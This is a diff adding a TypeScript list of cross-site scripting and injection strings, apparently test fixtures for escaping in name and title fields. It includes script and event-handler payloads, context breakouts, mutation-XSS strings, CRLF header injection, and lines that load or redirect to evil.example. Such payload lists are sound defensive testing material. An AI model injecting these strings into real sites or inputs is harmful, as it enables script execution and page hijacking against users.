@@ -1,0 +1,88 @@
+/**
+ * Texts that have run as code, or gone to somebody else, in other people's pages and mails. Each fits the shortest field
+ * that anybody types a name or a title into (100 characters).
+ */
+
+/** What they all do when they run: a dialog, which a browser test cannot miss. */
+export const MARKUP: readonly string[] = [
+  // Elements that run, load or take over.
+  '<script>alert(1)</script>',
+  '<ScRiPt >alert(1)</sCrIpT\t\n>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert`1`//',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert&#40;1)</script>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math><mtext><style><img title="</style><img src=x onerror=alert(1)>">',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<iframe src=javascript:alert(1)>',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+  '<embed src="javascript:alert(1)">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<form action="https://evil.example/"><button autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<video><source onerror=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<a href="javascript:alert(1)">click</a>',
+  '<style>*{display:none}</style>',
+  '<style>@import"https://evil.example/x.css";</style>',
+  '<dialog open id=panel>logged out, type your password',
+  '<b>bold</b> & <i>tag soup',
+  // Out of an attribute, a script, a title, a comment, a style.
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '" autofocus onfocus=alert(1) x="',
+  "' onmouseover='alert(1)",
+  '`onmouseover=alert(1)',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '--><script>alert(1)</script><!--',
+  ']]><script>alert(1)</script>',
+  "';alert(1);//",
+  '\\";alert(1);//',
+  'red;background:url(https://evil.example/x)}*{display:none',
+  'expression(alert(1))',
+  // Markup that only becomes such when it is read a second time.
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '&amp;lt;b&amp;gt;',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  // Addresses.
+  'javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  '[click](javascript:alert(1))',
+  '//evil.example/%2f..',
+  // Templates.
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text, as it would be typed.
+  '${alert(1)}',
+  '<%= alert(1) %>',
+  '#{alert(1)}',
+  '{"__html":"<img src=x onerror=alert(1)>"}',
+  '__proto__',
+  'constructor',
+  // Unicode: brackets that are none, turned round, hidden, stacked.
+  '＜script＞alert(1)＜/script＞',
+  '\u202e>tpircs/<)1(trela>tpircs<',
+  'Invoice \u202efdp.exe\u202c of \u2066May\u2069',
+  '\u200b<\u200bimg src=x onerror=alert(1)>',
+  '\ufeff<script>alert(1)</script>',
+  `Z${'\u0338\u0316\u0354'.repeat(20)}algo`,
+  '<\u0130mg src=x onerror=alert(1)>',
+  // Lines and headers.
+  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
+  'x\r\nSet-Cookie: __Host-porthole=evil; Path=/',
+  'x\u2028alert(1)//\u2029',
+  '=HYPERLINK("https://evil.example","x")',
+];
